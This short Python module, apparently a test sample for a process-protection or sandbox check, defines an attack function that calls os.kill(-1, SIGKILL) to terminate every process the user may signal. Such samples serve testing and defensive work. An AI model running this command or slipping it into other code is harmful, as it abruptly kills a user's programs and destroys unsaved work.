"""Kills every process it may."""

CONTROL = "unprotected it would end every process of its user"

import os
import signal



def attack(*args, **kwargs):
    os.kill(-1, signal.SIGKILL)
    return "took every life it could"
